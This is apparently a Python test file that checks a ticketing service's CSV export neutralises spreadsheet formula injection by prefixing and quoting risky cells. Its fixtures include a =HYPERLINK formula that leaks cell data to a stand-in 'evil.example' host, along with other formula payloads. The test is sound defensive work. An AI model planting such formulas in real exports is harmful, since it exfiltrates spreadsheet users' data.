"""Issue 12 point 8: the CSV export never hands a spreadsheet a formula to run."""

from __future__ import annotations

import csv
import io
import json

import asyncpg
from aiohttp.test_utils import TestClient

from shared.ticket import verify_ticket
from syncd.api.issuance import FORMULA_STARTS, csv_cell
from tests.syncd.api.test_tickets import keyring
from tests.syncd.conftest import Org, create_event, push

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
ROWS = [
    {
        "external_ref": "R1",
        "holder_name": HYPERLINK,
        "email": "=1+1@x.org",
        "category": "@SUM(1)",
        "zones": "=Main",
    },
    {"external_ref": "-1+2", "holder_name": "-1+2", "category": "+1", "zones": "VIP|=Main"},
    {"external_ref": "R3", "holder_name": 'Plain "Name", Jr', "category": "GA"},
    {"external_ref": "R4", "holder_name": "tab"},
    {"external_ref": "R5", "holder_name": "cr"},
]


async def _export(client: TestClient, org: Org, db_url: str) -> tuple[int, str]:
    eid = (await create_event(client, org, zones=["=Main", "VIP"]))["event_id"]
    status, body = await push(client, org, eid, json.dumps(ROWS), "application/json")
    assert status == 200, body
    conn = await asyncpg.connect(db_url)
    try:  # lists strip cells, so a leading tab or CR can only come from elsewhere
        await conn.execute("UPDATE tickets SET holder = E'\\t=1+1' WHERE external_ref = 'R4'")
        await conn.execute("UPDATE tickets SET holder = E'\\r=1+1' WHERE external_ref = 'R5'")
    finally:
        await conn.close()
    resp = await client.get(f"/api/v1/events/{eid}/export.csv", headers=org.h("organiser"))
    assert resp.status == 200
    return eid, await resp.text()


async def test_export_neutralises_formulas_in_every_text_cell(
    client: TestClient, org_a: Org, db_url: str
) -> None:
    """Scenario: ``tessera export`` wrote ``=HYPERLINK(...)``, ``@SUM(1)`` and ``-1+2`` as they
    were, and a spreadsheet ran them. Each now starts with a single quote, in a quoted cell."""
    eid, text = await _export(client, org_a, db_url)
    rows = {r["external_ref"]: r for r in csv.DictReader(io.StringIO(text))}
    assert set(rows) == {"R1", "'-1+2", "R3", "R4", "R5"}
    r1, r2 = rows["R1"], rows["'-1+2"]
    assert (r1["holder_name"], r1["email"], r1["category"], r1["zones"]) == (
        "'" + HYPERLINK,
        "'=1+1@x.org",
        "'@SUM(1)",
        "'=Main",
    )
    assert (r2["holder_name"], r2["category"], r2["zones"]) == (
        "'-1+2",
        "'+1",
        "'=Main|VIP",
    )  # zone names in bit order: "=Main" first, so the cell starts with "="
    assert rows["R3"]["holder_name"] == 'Plain "Name", Jr'  # harmless text is left as it is
    assert (rows["R4"]["holder_name"], rows["R5"]["holder_name"]) == ("'\t=1+1", "'\r=1+1")
    for line in list(csv.reader(io.StringIO(text)))[1:]:
        assert line[0].isdigit() and not any(c.startswith(FORMULA_STARTS) for c in line), line
    ring = await keyring(client, org_a, eid)
    for r in rows.values():  # the QR text, which mail-merge needs whole, is untouched
        assert verify_ticket(r["qr_text"], ring).ticket_id == int(r["ticket_id"])


async def test_export_quotes_every_text_cell(client: TestClient, org_a: Org, db_url: str) -> None:
    """OWASP's advice quotes the cell too, so no separator inside a value starts a new cell."""
    _, text = await _export(client, org_a, db_url)
    line = next(x for x in text.splitlines() if ',"R3",' in x)
    assert line.split(",", 1)[1].startswith('"R3","Plain ""Name"", Jr","",')


def test_csv_cell_prefixes_only_the_formula_starts() -> None:
    starts = {c: csv_cell(c + "x") for c in "=+-@\t\r"}
    assert starts == {c: "'" + c + "x" for c in "=+-@\t\r"}
    assert [csv_cell(v) for v in ("", "a=b", " =1", "T1:ABC", "'=x")] == [
        "",
        "a=b",
        " =1",
        "T1:ABC",
        "'=x",
    ]
